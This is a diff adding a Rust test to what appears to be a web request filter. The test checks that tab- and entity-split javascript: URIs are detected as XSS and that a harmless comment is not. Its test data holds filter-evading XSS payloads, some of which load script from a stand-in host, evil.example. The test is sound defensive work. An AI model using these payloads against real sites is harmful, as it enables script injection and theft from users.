@@ -1870,3 +1870,22 @@ fn image_data_urls_pass() {
         );
     }
 }
+
+#[test]
+fn javascript_uri_split_by_tabs_is_blocked() {
+    for query in [
+        "q=%3Ca+href%3D%22jav%26%23x09%3Bascript%3Aimport%28%27%2F%2Fevil.example%2Fx.js%27%29%22%3Eclick%3C%2Fa%3E",
+        "next=jav%09ascript%3Aalert%281%29",
+        "next=java%26Tab%3Bscr%26NewLine%3Bipt%3Aalert%28document.domain%29",
+    ] {
+        assert!(
+            detected_ids(&request(&format!("/go?{query}")), "").contains(&"xss-javascript-uri-split"),
+            "{query}"
+        );
+    }
+    let body = r#"{"website":"jav\tascript:import('//evil.example/x.js')"}"#;
+    assert!(blocked(&with_body("POST", "application/json", body), body));
+    let body = "comment=Read+%22JavaScript%3A+The+Good+Parts%22%0Aand+then+tell+me";
+    let form = with_body("POST", "application/x-www-form-urlencoded", body);
+    assert!(!detected_ids(&form, body).contains(&"xss-javascript-uri-split"));
+}
